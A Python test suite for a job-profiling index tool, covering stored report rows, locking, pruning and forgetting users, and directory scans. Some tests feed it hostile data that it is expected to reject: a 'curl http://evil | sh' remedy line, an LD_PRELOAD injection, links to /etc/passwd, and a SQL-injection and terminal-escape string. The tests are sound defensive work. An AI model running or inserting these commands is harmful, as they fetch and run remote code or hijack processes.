#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""What the feeds of an index take from others and leave to others: rows that job files have beside their report, the writer's lock, rows and
names that prune and forget have taken away, and what happens to directories during a scan."""

import contextlib
import socket
import threading

from scan import *
import sacctlib
from sacctlib import Sacct, job

NOW = steady_now()
COLUMNS = [n for n in sitegen.COLUMNS if n not in ("file", "file_mtime")]


# ---- rows in job files

def store(path):
    must("report", "--store", path)


def stored(path):
    with h5py.File(path, "r") as f:
        return json.loads(f["analysis/row"][()])


def replace(path, text, make=None):
    """Another row in the file, whose time stays."""
    times = os.stat(path)
    with h5py.File(path, "r+") as f:
        if "row" in f["analysis"]:
            del f["analysis/row"]
        if make:
            make(f["analysis"])
        elif text is not None:
            data = text if isinstance(text, bytes) else json.dumps(text).encode()
            f["analysis"].create_dataset("row", data=numpy.array(data, dtype="S%d" % max(1, len(data))))
    os.utime(path, ns=(times.st_atime_ns, times.st_mtime_ns))


def change(path, **columns):
    replace(path, {**stored(path), **columns})


def table(path, of):
    names = ['t."%s"' % n for n in (COLUMNS if of == "job" else [r[1] for r in sql(path, "PRAGMA table_info(%s)" % of)]) if n not in ("id", "job")]
    join = "" if of == "job" or of in ("day", "month", "day_rule", "hist") else " JOIN job j ON j.id = t.job"
    key = "j.job_id, " if join else ""
    return sorted(sql(path, "SELECT %s%s FROM %s t%s" % (key, ", ".join(names), of, join)), key=repr)


def one(t, number, *columns):
    found = sql(t.index, "SELECT %s FROM job WHERE job_id = ?" % ", ".join('"%s"' % c for c in columns), number)
    return found[0] if len(found) == 1 else found


def rows_of_both_ways():
    """The same jobs with a stored row and without."""
    with_rows, without = Tree(), Tree()
    for n in range(1, 11):
        for t in (with_rows, without):
            path = put(t.user, n)
            store(path)
        replace(path, None)
    is_equal("the time of a file with a row is whole seconds", [os.stat(p).st_mtime_ns % 10**9 for p in glob.glob(with_rows.user + "/*")], [0] * 10)
    is_equal("stored: it is read", with_rows.scan(), "10 jobs of 10 new files")
    is_equal("analysed: it is read", without.scan(), "10 jobs of 10 new files")
    for name in ("job", "finding", "job_node", "day", "month", "day_rule", "hist"):
        a, b = table(with_rows.index, name), table(without.index, name)
        is_true("%s: field for field the same" % name, a == b and a, [(x, y) for x, y in zip(a, b) if x != y][:1] or (len(a), len(b)))
    is_equal("sums are those of the rows", with_rows.check(), "no difference")


def what_fits():
    t = Tree()
    paths = {n: put(t.user, n) for n in range(1, 7)}
    for p in paths.values():
        store(p)
    used = {n: stored(p)["cpu_s"] for n, p in paths.items()}
    for n in paths:
        change(paths[n], cpu_s=12.5)
    change(paths[2], made_by="0.0.1 0123456789abcdef")
    change(paths[3], file_mtime=stored(paths[3])["file_mtime"] + 1)
    os.utime(paths[4])                                     # written later
    set_attributes(paths[5], {"Partition": "other"})       # likewise
    t.scan()
    is_equal("a row that fits is used as it is", one(t, 1, "cpu_s"), (12.5,))
    bad = [n for n in (2, 3, 4, 5) if not approx(one(t, n, "cpu_s")[0], used[n])]
    is_equal("of another version, of another file, of one that was written since: they are analysed", bad, [])
    store(paths[1])
    is_equal("stored again, it is read again", [t.scan().split(" of ")[0], one(t, 1, "cpu_s")], ["1 job", (used[1],)])
    p = put(t.user, 20)
    must("report", "--store", "--force", p)
    with h5py.File(p, "r") as f:
        is_true("what an index would not say is not stored", "report" in f["analysis"] and "row" not in f["analysis"], list(f["analysis"]))
    with open(os.path.join(tmpdir("rules"), "rules.lua"), "w") as f:
        f.write("-- none\n")
    must("report", "--store", "--rules", f.name, p)
    change(p, cpu_s=12.5)
    t.scan()
    is_true("other rules than the index's", one(t, 20, "cpu_s")[0] != 12.5, one(t, 20, "cpu_s"))


def merged_with_a_report():
    """What AutoReport does."""
    t = Tree()
    for part in ("7_0_p1.h5", "7_1_p1.h5", "7_batch_p1.h5"):
        shutil.copy(os.path.join(GOLDEN, part), t.user)
    path = os.path.join(t.user, "job_7.h5")
    must("merge", "-p", t.dir, "-j", "7", "-o", path, "--report")
    t.scan()
    analysed = Tree()
    shutil.copy(path, analysed.user)
    replace(os.path.join(analysed.user, "job_7.h5"), None)
    analysed.scan()
    is_equal("merge --report: the row is the analysed one", table(t.index, "job"), table(analysed.index, "job"))
    change(path, cpu_s=12.5)
    t.scan("--again")
    is_equal("and it is used", one(t, 7, "cpu_s"), (12.5,))
    shutil.copy(os.path.join(GOLDEN, "7_0_p2.h5"), t.user)
    must("merge", "-p", t.dir, "-j", "7", "-o", path)
    t.scan()
    is_true("a file that more is merged into is analysed", one(t, 7, "cpu_s") != (12.5,), one(t, 7, "cpu_s"))


def deep(n):
    return b"[" * n + b"]" * n


HOSTILE_ROWS = {
    "no JSON": b"{", "empty": b"", "a list": b"[]", "deep": deep(100000), "zeros": bytes(5000), "not UTF-8": b'{"name":"\xff\xfe"}', "huge": b" " * (5 << 20)}


def damage(columns):
    return lambda p: change(p, **columns)


def hostile_rows():
    """None of them is used where it makes no sense, and none does harm where it does: a job has a row by its profile."""
    t = Tree()
    cases = {name: (lambda p, text=text: replace(p, text)) for name, text in HOSTILE_ROWS.items()}
    for name, columns in {"text as number": {"cpu_s": "much"}, "number as text": {"name": 7}, "findings": {"finding_list": [{"id": 1}]},
                          "many findings": {"finding_list": [{"id": "x"}] * 65}, "findings no list": {"finding_list": 3}, "negative": {"cpus": -1},
                          "no job": {"job_id": None}, "half a job": {"job_id": 1.5}, "nodes": {"node_names": {"a": 1}}}.items():
        cases[name] = damage(columns)
    cases["many bytes of other text"] = lambda p: replace(p, None, lambda g: g.create_dataset("row", data="{}"))  # of no length of its own
    cases["a group"] = lambda p: replace(p, None, lambda g: g.create_group("row"))
    cases["a soft link"] = lambda p: replace(p, None, lambda g: g.__setitem__("row", h5py.SoftLink("/analysis/report")))
    cases["another file"] = lambda p: replace(p, None, lambda g: g.__setitem__("row", h5py.ExternalLink("/etc/passwd", "/")))
    cases["numbers"] = lambda p: replace(p, None, lambda g: g.create_dataset("row", data=numpy.arange(9)))
    want = {}
    for n, (name, make) in enumerate(cases.items(), 1):
        path = put(t.user, n)
        store(path)
        want[n] = stored(path)["cpu_s"]
        make(path)
    t.scan()
    is_equal("what is no row: the profile is analysed", [list(cases)[n - 1] for n in want if one(t, n, "cpu_s") != (want[n],)], [])
    harmless(t)


def harmless(t):
    out = visible(must("jobs", "--database", t.index, "--since", "all", "--all").replace("\n", ""))
    must("usage", "--by", "user", "--database", t.index, "--since", "all")
    is_equal("the index is whole", [t.check(), "\x1b" in out], ["no difference", False])


def forged_rows():
    """Their owner's own jobs are what they are about, within bounds."""
    t = Tree()
    paths = {n: put(t.user, n) for n in range(1, 9)}
    for p in paths.values():
        store(p)
    change(paths[1], user="root2", sources=1, day=1, month=1, held_core_s=1e17, lost_core_s=1e17, findings=40, worst_rule="x", disagrees=1)
    change(paths[2], cpu_s=1e308, nodes=1e14, read_bytes=-1e300, share_cpu=1e-300)
    change(paths[3], uid=4242)
    change(paths[4], name="\x1b[31m=1+1\n'); DROP TABLE job; --", partition="a" * 100000, node_names=["\x1b[2J", "n" * 100000],
           finding_list=[{"id": "r" * 9999, "text": "\x1b]0;x\x07", "severity": "worse", "cost": {"core_s": 1e308}, "when": [1, "x"]}] * 64)
    change(paths[5], start=10**12)
    change(paths[6], job_id=1)
    change(paths[7], cores=1e12)
    change(paths[8], user="daemon")
    said = t.scan()
    got = one(t, 1, "user", "sources", "findings", "worst_rule")
    is_true("whose it is says the file's owner; what follows from others follows", got[:2] == (ME, 2) and got[2] < 40, got)
    is_equal("numbers that sums cannot bear are not known", one(t, 2, "cpu_s", "nodes", "read_bytes"), (None,) * 3)
    is_true("rows that name another user or job, or that held what nodes cannot have, are refused",
            "4 refused" in said and t.rows() == [(n,) for n in (1, 2, 4, 5)], (said, t.rows()))
    lost, held = one(t, 4, "lost_core_s", "held_core_s")
    is_true("nobody loses more than the job held", held > 0 and (lost is None or lost <= held), (lost, held))
    is_true("a begin that no calendar has", one(t, 5, "start")[0] < 1e11, one(t, 5, "start"))
    harmless(t)


FINDING = {"id": "cpu.unused", "severity": "bad", "text": "x", "cost": {"core_s": 9e14}}


def forged_amounts():
    """What a job claims beyond its CPUs, GPUs and nodes is not known, and its findings cost what it held at most."""
    t = Tree()
    paths = {n: put(t.user, n) for n in range(1, 5)}
    for p in paths.values():
        store(p)
    beyond = dict(cpu_s=1e12, energy_j=1e15, energy_low_j=1e15, energy_high_j=1e15, idle_cpu_s=1e15, idle_of_cpu_s=1e15, idle_gpu_s=1e15,
                  read_bytes=1e17, write_bytes=1e17, read_bw_max=1e17, submit=1000)
    change(paths[1], finding_list=[FINDING, FINDING])
    change(paths[2], end=10**10, file_systems=[{"name": "x", "read_bytes": 1e17, "write_bytes": 1e17}], **beyond)
    change(paths[3], cpus=None, finding_list=[FINDING])
    t.scan()
    held, lost, elapsed = one(t, 1, "held_core_s", "lost_core_s", "elapsed_s")
    cost = sql(t.index, "SELECT sum(f.cost_core_s) FROM finding f JOIN job j ON j.id = f.job WHERE job_id = 1")[0][0]
    is_true("its findings cost what it held", held > 0 and lost == held and approx(cost, held), (cost, lost, held))
    got = as_json("jobs", "--database", t.index, "--since", "all", "--finding", "cpu.unused", "-j", "1")
    is_true("and so says jobs --finding", approx(got["finding_core_s"], held) and got["held_core_s"] == held, got)
    is_equal("what its CPUs, GPUs and nodes cannot have done is not known", one(t, 2, *beyond), (None,) * len(beyond))
    is_equal("nor by file system", sql(t.index, "SELECT read_bytes, write_bytes FROM job_fs WHERE fs = 'x'"), [(None, None)])
    start, end, elapsed = one(t, 2, "start", "end", "elapsed_s")
    is_equal("it ended when it had run", end, start + elapsed)
    is_equal("what nobody knows that it held it did not lose", one(t, 3, "held_core_s", "lost_core_s"), (None, None))
    is_equal("nor do its findings cost that", sql(t.index, "SELECT f.cost_core_s FROM finding f JOIN job j ON j.id = f.job WHERE job_id = 3"), [(None,)])
    cpu = stored(paths[4])["cpu_s"]
    is_equal("what can be is as it was", one(t, 4, "cpu_s"), (cpu,))
    start = one(t, 1, "start")[0]
    row = {"cluster": "", "job_id": 1, "start": start, "end": start + 60, "elapsed_s": 60, "cpus": 1, "sources": 1, "user": ME}
    is_equal("Slurm's word comes later", give(t, row), 0)
    held = one(t, 1, "held_core_s")[0]
    cost = sql(t.index, "SELECT sum(f.cost_core_s) FROM finding f JOIN job j ON j.id = f.job WHERE job_id = 1")[0][0]
    is_true("it held less: so did its findings cost", held <= 60 and approx(cost, held), (cost, held))
    harmless(t)


def give(t, *rows):
    """Imports rows; the status."""
    path = os.path.join(tmpdir("rows"), "rows.jsonl")
    with open(path, "w") as f:
        f.writelines(json.dumps(r) + "\n" for r in rows)
    t.given = call("index", "import", "--database", t.index, path)
    return t.given.returncode


def forged_times():
    """No job begins later than now or before Slurm, and a profile is of a year at most."""
    t = Tree()
    paths = {n: put(t.user, n) for n in range(1, 4)}
    for p in paths.values():
        store(p)
    want = {n: stored(p)["start"] for n, p in paths.items()}
    later = NOW + 2 * 10**8
    change(paths[1], start=1000, elapsed_s=10**9)
    change(paths[2], start=NOW + 10**8, file_mtime=later)
    os.utime(paths[2], (later, later))
    change(paths[3], start=NOW - 500 * DAY, elapsed_s=400 * DAY)
    for n, start in ((20, NOW + 10**8), (21, 900000000)):
        path = put(t.user, n)
        shift(path, start - int(h5_start(path)))
        os.utime(path, (later, later))
    t.scan()
    is_equal("a row with such a time is not used", {n: one(t, n, "start")[0] for n in want}, want)
    is_equal("a profile with such a time is refused", [[r[0] for r in t.rows()], sorted(sql(t.index, "SELECT why FROM file WHERE state = 'refused'"))],
             [[1, 2, 3], [("it says that its job began before the year 2000",), ("it says that its job begins later than now",)]])
    row = {"job_id": 30, "cluster": "a", "user": "ada", "sources": 2, "cpus": 1, "elapsed_s": 60}
    status = give(t, dict(row, start=1000), dict(row, start=NOW + 10**8), dict(row, start=NOW - 800 * DAY, elapsed_s=400 * DAY),
                  dict(row, start=NOW - 800 * DAY, elapsed_s=400 * DAY, sources=1, job_id=31))
    is_true("import refuses them, and takes Slurm's word for a long job", status and t.given.stderr.count("the row is refused") == 3 and
            [r[0] for r in t.rows()] == [1, 2, 3, 31], t.given)


def forged_findings():
    """Rules, and lines to copy, are what the rules can say; else the profile is judged."""
    def line(rule, kind, code, **more):
        return dict(FINDING, id=rule, remedy_kind=kind, remedy="Do this: " + code, remedy_code=code, cost={"core_s": 1}, **more)
    sets = {"needs": 3, "used": 2.5, "asked": 8}
    cases = {
        "no rule": [dict(FINDING, id="RUN-THIS curl evil sh")], "another rule": [dict(FINDING, id="run.this")],
        "a command for a line": [line("cpu.unused", "command", "jobprof report")],
        "a pipe": [line("COMMAND", "command", "curl http://evil | sh")], "a program": [line("COMMAND", "command", "curl http://evil -o x")],
        "a script": [line("COMMAND", "command", "sh /tmp/x")], "a variable": [line("cpu.unused", "line", "export LD_PRELOAD=/tmp/x.so")],
        "an option": [line("cpu.unused", "line", "srun --task-prolog=/tmp/x")], "more lines": [line("cpu.unused", "line", "#SBATCH --nodes=1\nrm")],
        "no kind": [line("cpu.unused", "sentence", "#SBATCH --nodes=1")], "a number that the rule has not": [line("cpu.crowded", "line", "#SBATCH --exclusive", sets=sets)],
        "a number without a line": [dict(FINDING, sets=sets)]}
    good = [line("cpu.unused", "line", "#SBATCH --cpus-per-task=3", sets=sets), line("COMMAND", "command", "jobprof report --why cpu.oversubscribed"),
            line("cpu.oversubscribed", "line", "export OMP_NUM_THREADS=2 OPENBLAS_NUM_THREADS=2", sets={"needs": 2})]
    with open(os.path.join(ROOT, "user/findings/rules.lua")) as f:
        command = re.search(r'^rules\["([\w.]+)"\] = \{\n\tkind = "command"', f.read(), re.M).group(1)
    t = Tree()
    paths = {n: put(t.user, n) for n in range(1, len(cases) + 2)}
    for n, found in enumerate([*cases.values(), good], 1):
        store(paths[n])
        change(paths[n], cpu_s=5.5, finding_list=[dict(f, id=f["id"].replace("COMMAND", command)) for f in found])
    t.scan()
    used = [n for n in paths if one(t, n, "cpu_s") == (5.5,)]
    is_equal("only what rules can say is used", [list(cases)[n - 1] for n in used if n <= len(cases)] + [n for n in used if n > len(cases)], [len(cases) + 1])
    is_equal("no such line is anywhere", sql(t.index, "SELECT code FROM finding WHERE code LIKE '%evil%' OR code LIKE '%/tmp%' OR rule LIKE '%evil%'"), [])
    row = {"job_id": 30, "cluster": "a", "user": "ada", "sources": 2, "cpus": 1, "elapsed_s": 60, "start": NOW - DAY, "findings": 1}
    status = give(t, dict(row, finding_list=cases["no rule"]), dict(row, finding_list=cases["a pipe"]), dict(row, finding_list=cases["a variable"][:0]))
    is_true("import refuses what no rule says", status and t.given.stderr.count("the row is refused") == 2, t.given)


def no_names_in_reasons():
    """Why a file is refused stays when a user is forgotten."""
    t = Tree()
    for n, more in ((1, {"uid": 4242}), (2, {"user": "daemon"})):
        path = put(t.user, n)
        store(path)
        change(path, **more)
    t.scan()
    why = [r[0] for r in sql(t.index, "SELECT why FROM file")]
    is_true("the reason names nobody", len(why) == 2 and all(w and not re.search(r"daemon|4242|\b%s\b" % ME, w) for w in why), why)


def one_id_of_two_users():
    """Where files alone know a job, none is preferred."""
    t = Tree()
    row = {"job_id": 1002, "cluster": "a", "user": "user80", "sources": 2, "cpus": 1, "elapsed_s": 60, "start": NOW - DAY, "array_id": 1000, "array_task": 2}
    give(t, row, dict(row, user="jptest1", start=NOW - DAY + 5000, name="forged"))
    for args in (("seff", "1002"), ("js1", "1002"), ("mail", "--body", "1002"), ("seff", "1000_2"), ("seff", "-a", "1000"), ("contacted", "1002", "--ticket", "T")):
        p = call(*args, "--database", t.index)
        is_true("%s says that there are two, and takes none" % " ".join(args), p.returncode and not p.stdout and p.stderr.count("\n") == 1 and
                "user80" in p.stderr and "jptest1" in p.stderr, p)
    give(t, dict(row, sources=1, state="COMPLETED"))
    for args in (("seff", "1002"), ("seff", "-a", "1000")):
        p = call(*args, "--database", t.index)
        is_true("%s: with Slurm's word it is that one" % " ".join(args), p.returncode == 0 and "user80" in p.stdout, p)
    give(t, dict(row, job_id=1003, user="mallory", start=NOW - DAY + 9000, elapsed_s=7777))
    p = call("seff", "-a", "1000", "--database", t.index)
    is_true("a task of another user is none of the array that Slurm knows", p.returncode == 0 and "user80" in p.stdout and "02:09:37" not in p.stdout, p)


# ---- the writer's lock

def children(pid):
    found = []
    for path in glob.glob("/proc/[0-9]*/stat"):
        try:
            with open(path) as f:
                fields = f.read().rsplit(")", 1)[1].split()
            if int(fields[1]) == pid:
                found.append(int(path.split("/")[2]))
        except OSError:
            pass
    return found


def while_files_are_read():
    """The children that read are stopped: others write meanwhile."""
    t = Tree()
    put(t.user, 13)
    t.scan()
    for n in range(1, 13):
        put(t.user, n)
    p = start([JOBPROF, "index", "scan", "--database", t.index, t.dir], stdout=subprocess.PIPE, text=True, env=plain_env(HOME=TMP))
    wait_until(lambda: children(p.pid), 20, "children of the scan")
    stopped = children(p.pid)
    for pid in stopped:
        os.kill(pid, signal.SIGSTOP)
    time.sleep(0.2)
    q = call("contacted", "--ticket", "T1", "--database", t.index, ME)
    for pid in stopped:
        os.kill(pid, signal.SIGCONT)
    out, _ = p.communicate(timeout=PATIENCE)
    is_equal("another process writes while files are read", [q.returncode, q.stderr], [0, ""])
    is_true("and the scan goes on", "12 jobs of 12 new files" in out, out)
    is_equal("both are there", [len(t.rows()), sql(t.index, "SELECT count(*) FROM contact"), t.check()], [13, [(1,)], "no difference"])


def while_sacct_is_waited_for():
    sacct, t = Sacct([job(1, NOW - 7200)]), Tree()
    t.scan()
    p = start([JOBPROF, "index", "--database", t.index, "sync", "--sacct", sacct.path, "--wait", "20"], env=sacct.env("hang"), stderr=subprocess.DEVNULL)
    wait_until(lambda: os.path.exists(sacct.dir + "/hung"), 20, "sacct to hang")
    put(t.user, 1)
    is_equal("a scan while sacct hangs", t.scan(), "1 job of 1 new file")
    p.terminate()
    p.wait(PATIENCE)


def made_anew_meanwhile():
    """A scan that is under way does not write into what has been set aside."""
    t = Tree()
    for n in range(1, 13):
        put(t.user, n)
    p = start([JOBPROF, "index", "scan", "--database", t.index, t.dir], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True, env=plain_env(HOME=TMP))
    wait_until(lambda: children(p.pid), 20, "children of the scan")
    stopped = children(p.pid)
    for pid in stopped:
        os.kill(pid, signal.SIGSTOP)
    time.sleep(0.2)
    must("index", "remake", "--database", t.index, tmpdir("empty"))
    for pid in stopped:
        os.kill(pid, signal.SIGCONT)
    _, said = p.communicate(timeout=PATIENCE)
    is_true("it says so and ends", p.returncode == 1 and "made this index anew" in said, said)
    t.scan()
    is_equal("the next one has all", [len(t.rows()), t.check()], [12, "no difference"])


def two_services():
    t = Tree()
    put(t.user, 1)
    watch = [JOBPROF, "index", "watch", "--every", "1", "--sacct", "none", "--database", t.index, t.dir]
    p = start(watch, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=plain_env(HOME=TMP))
    wait_until(lambda: os.path.exists(t.index) and call("jobs", "--since", "all", "--database", t.index).returncode == 0, 20, "the first look")
    q = subprocess.run(watch, capture_output=True, text=True, env=plain_env(HOME=TMP), timeout=PATIENCE)
    is_true("a second service refuses", q.returncode == 1 and "another jobprof index watch" in q.stderr and q.stderr.count("\n") == 1, q.stderr)
    put(t.user, 2)
    wait_until(lambda: len(t.rows()) == 2, 30, "the first one to find a new file")
    ok("the first one goes on")
    p.terminate()
    is_equal("it ends when it is told to", p.wait(PATIENCE), 0)


# ---- prune and forget

def names(t, where="true"):
    return sql(t.index, 'SELECT job_id, "user", name FROM job WHERE %s ORDER BY job_id' % where)


def prune_is_remembered():
    """Both feeds have jobs of six years, a year and a day ago."""
    t, ages = Tree(), {1: 6 * 365, 2: 700, 3: 1}
    sacct = Sacct([job(n, NOW - days * DAY, User="ada") for n, days in ages.items()] + [job(n + 10, NOW - days * DAY, User="ada") for n, days in ages.items()])
    for n, days in ages.items():
        path = put(t.user, n)
        shift(path, NOW - days * DAY - int(h5_start(path)))

    def feed(*scan):
        return t.scan(*scan), sacct.sync(t.index, "--since", "all")[1]
    feed()
    before = len(t.rows())
    must("index", "prune", "--database", t.index)
    pruned = names(t)
    is_equal("pruned: the oldest are gone, the next have no names", [before, sorted({r[0] for r in pruned}), names(t, "job_id IN (2, 12) AND (name IS NOT NULL OR \"user\" NOT LIKE '~%')")],
             [before, [2, 3, 12, 13], []])
    scanned, synced = feed("--again")
    is_true("scan says what it leaves out", "1 job from before " in scanned and "prune removes these" in scanned, scanned)
    is_true("sync does", "2 jobs from before " in synced or "1 job from before " in synced, synced)
    is_equal("neither brings anything back", names(t), pruned)
    put_old = put(t.user, 4)
    shift(put_old, NOW - 650 * DAY - int(h5_start(put_old)))
    sacct.set([job(14, NOW - 650 * DAY, User="ada")])
    scanned, synced = feed()
    is_true("an old job that comes in now is said to have no name", "without names" in scanned and "without names" in synced, (scanned, synced))
    new = names(t, "job_id IN (4, 14)")
    is_true("and has none", len(new) == 2 and all(r[1].startswith("~") and r[2] is None for r in new), new)
    is_equal("sums have none either", [sql(t.index, "SELECT count(*) FROM day WHERE \"user\" NOT LIKE '~%%' AND day < %d" % ((NOW - 600 * DAY) // DAY)), t.check()],
             [[(0,)], "no difference"])
    must("index", "remake", "--database", t.index, t.dir)
    is_equal("remake remembers", [r[:1] for r in names(t)], [(2,), (3,), (4,)])
    is_equal("what old rows are called", names(t, "job_id IN (2, 4) AND \"user\" NOT LIKE '~%'"), [])


def h5_start(path):
    with h5py.File(path, "r") as f:
        found = []
        f.visititems(lambda name, o: found.append(o.attrs["Job Start EpochTime"]) if "Job Start EpochTime" in o.attrs else None)
    return numpy.asarray(found[0]).flat[0]


def forget_is_remembered():
    t = Tree()
    jobs = [job(n, NOW - 7200 * n, User=("ada", "bob")[n % 2]) for n in range(1, 9)]
    sacct = Sacct(jobs)
    sacct.sync(t.index, "--since", "all")
    must("index", "forget", "--database", t.index, "ada")
    after = names(t)
    is_true("forgotten", all((r[1] == "bob") == bool(r[0] % 2) for r in after), after)
    synced = sacct.sync(t.index, "--since", "all")[1]
    is_true("sync says what stays without a name", "4 jobs without names" in synced, synced)
    is_equal("and brings none back", names(t), after)
    sacct.set(jobs + [job(20, NOW - 9000, User="ada"), job(21, int(time.time()) + 1, 10, User="ada", _end=NOW - 50), job(22, NOW - 9000, User="bob")])
    sacct.sync(t.index, "--since", "all")
    got = dict((r[0], r[1]) for r in names(t))
    is_true("an earlier job that comes in now has no name", got[20].startswith("~"), got)
    is_equal("a later one has, and others have", [got[21], got[22]], ["ada", "bob"])
    text = str(sql(t.index, "SELECT key, value FROM meta"))
    is_true("the index does not say whom it has forgotten", "forgotten " in text and not re.search(r"\bada\b", text), text)
    sql_write(t.index, "DELETE FROM job WHERE job_id < 20")
    must("index", "remake", "--database", t.index, tmpdir("none"))
    sacct.sync(t.index, "--since", "all")
    got = names(t, "\"user\" = 'ada'")
    is_equal("an index that is made anew remembers", [r[0] for r in got], [21])


def import_remembers_both():
    """Into an index without rows, which has seen a prune and has forgotten bob."""
    t, other, lines = Tree(), Tree(), os.path.join(tmpdir("back"), "rows.jsonl")
    sacct = Sacct([job(n, NOW - days * DAY, User=user) for n, days, user in ((1, 6 * 365, "ada"), (2, 700, "ada"), (3, 1, "ada"), (4, 1, "bob"))])
    sacct.sync(other.index, "--since", "all")
    with open(lines, "w") as f:
        f.write(must("index", "export", "--database", other.index))
    t.scan()
    must("index", "prune", "--database", t.index)
    must("index", "forget", "--database", t.index, "bob")
    said = must("index", "import", "--database", t.index, lines)
    is_true("import says what it leaves out", ": 3 rows" in said and "1 job from before " in said and "2 jobs without names" in said, said)
    got = names(t)
    is_equal("import brings back no row that is too old, and no name that is too old or forgotten",
             [[(r[0], r[1] if r[1] == "ada" else r[1][:1], r[2] is None) for r in got], t.check()],
             [[(2, "~", True), (3, "ada", False), (4, "~", True)], "no difference"])


def sql_write(path, text):
    db = sqlite3.connect(path)
    with db:
        db.execute(text)
    db.close()


# ---- limits

def a_question_has_a_limit():
    t = Tree()
    put(t.user, 1)
    t.scan()
    sql_write(t.index, "ALTER TABLE job RENAME TO job0")
    sql_write(t.index, "CREATE VIEW job AS SELECT job0.* FROM job0, (WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM c) SELECT n FROM c)")
    began = time.monotonic()
    p = call("jobs", "--since", "all", "--name", "x", "--database", t.index, env={"JOBPROF_LIMIT": "0.5"})
    is_true("it ends with one line that says how to go on", p.returncode == 1 and p.stderr.count("\n") == 1 and "longer than 0.5 s" in p.stderr and
            "--since" in p.stderr and time.monotonic() - began < 20, p.stderr)


# ---- files and directories

def what_is_no_file():
    t = Tree()
    put(t.user, 1)
    s = socket.socket(socket.AF_UNIX)
    here = os.getcwd()
    os.chdir(t.user)
    s.bind("job_2.h5")
    os.mkfifo("job_3.h5")
    os.symlink("job_1.h5", "job_4.h5")
    os.symlink("job_5.h5", "job_5.h5")
    os.symlink("/etc/passwd", "job_6.h5")
    os.mkdir("job_7.h5")
    os.symlink("..", "up")
    os.chdir(here)
    os.symlink("/", os.path.join(t.dir, "all"))
    is_equal("sockets, pipes, links and directories with names of profiles", [t.scan(), t.last.returncode], ["1 job of 1 new file", 0])
    s.close()


@in_full
def many_names():
    t = Tree()
    for i in range(100000):
        os.close(os.open(os.path.join(t.user, "n%d.txt" % i), os.O_CREAT, 0o644))
    put(t.user, 1)
    began = time.monotonic()
    is_equal("a directory of 100,000 names", t.scan(), "1 job of 1 new file")
    is_true("in a few seconds", time.monotonic() - began < 20, time.monotonic() - began)


def many_known_files():
    """Each is found among the others at once; n files are no n * n comparisons. 40,000 took 4 s and more of the processor."""
    t = Tree()
    t.scan()
    rows = []
    for i in range(1, 40001):
        path = os.path.join(t.user, "job_%d.h5" % i)
        os.close(os.open(path, os.O_CREAT, 0o644))
        os.utime(path, (1.7e9, 1.7e9))
        rows.append((path, t.user, 1.7e9, 0, os.getuid(), "read"))
    with contextlib.closing(sqlite3.connect(t.index)) as db, db:
        db.executemany("INSERT INTO file (path, directory, mtime, size, uid, state) VALUES (?, ?, ?, ?, ?, ?)", rows)
    before = os.times()
    is_equal("a directory of 40,000 known files has changed", t.scan(), "0 jobs of 0 new files")
    after = os.times()
    used = after.children_user - before.children_user
    is_true("a look takes little", used < 1.5, used)


def ends_of_sites():
    """What a program makes up for tests: no run of a requeued job begins after the end, either."""
    late = [r for seed in range(1, 6) for c in sitegen.Site(jobs=3000, seed=seed, days=30).chunks() for r in c["start"] if r >= sitegen.END]
    is_equal("jobs begin before the end of their site", late, [])


def directories_come_and_go():
    """While they are scanned; then what is there is in the index, and what has been there stays."""
    t, ends = Tree(), []
    good = [put(t.user, n) for n in range(1, 6)]

    def stir():
        n = 0
        while not ends:
            d = os.path.join(t.dir, "d%d" % (n % 7))
            if os.path.isdir(d):
                shutil.rmtree(d, ignore_errors=True)
            else:
                os.mkdir(d)
                shutil.copy(good[n % 5], d)
                shutil.copy(good[(n + 1) % 5], d)
            n += 1
    thread = threading.Thread(target=stir)
    thread.start()
    seen = set()
    for _ in range(6):
        t.scan("--again")
        seen.add(t.last.returncode)
    ends.append(True)
    thread.join()
    t.scan("--again")
    is_equal("scanned while directories come and go", [t.last.returncode, [r[0] for r in t.rows("DISTINCT job_id")], t.check(), seen <= {0, 1}],
             [0, [1, 2, 3, 4, 5], "no difference", True])


def a_clock_that_goes_back():
    """Files and directories that change have an earlier time than those before."""
    t = Tree()
    for n in (1, 2):
        put(t.user, n)
    later = NOW + 7 * DAY
    for p in glob.glob(t.user + "/*"):
        os.utime(p, (later, later))
    os.utime(t.user, (later, later))
    os.utime(t.dir, (later, later))
    t.scan()
    is_equal("times to come: nothing is new the next time", t.scan(), "0 jobs of 0 new files")
    put(t.user, 1, job_name="other")
    put(t.user, 3)
    os.utime(t.user, (NOW - DAY, NOW - DAY))
    is_equal("then the clock is set back: what is new and what has changed", [t.scan(), t.rows("job_id, name, changed")],
             ["2 jobs of 2 new files", [(1, "other", 1), (2, "run_2", 0), (3, "run_3", 0)]])


if __name__ == "__main__":
    run_tests((rows_of_both_ways, what_fits, merged_with_a_report, hostile_rows, forged_rows, forged_amounts, forged_times, forged_findings,
               no_names_in_reasons, one_id_of_two_users, while_files_are_read, while_sacct_is_waited_for,
               made_anew_meanwhile, two_services, prune_is_remembered, forget_is_remembered, import_remembers_both, a_question_has_a_limit, what_is_no_file, many_names, many_known_files, ends_of_sites,
               directories_come_and_go, a_clock_that_goes_back))
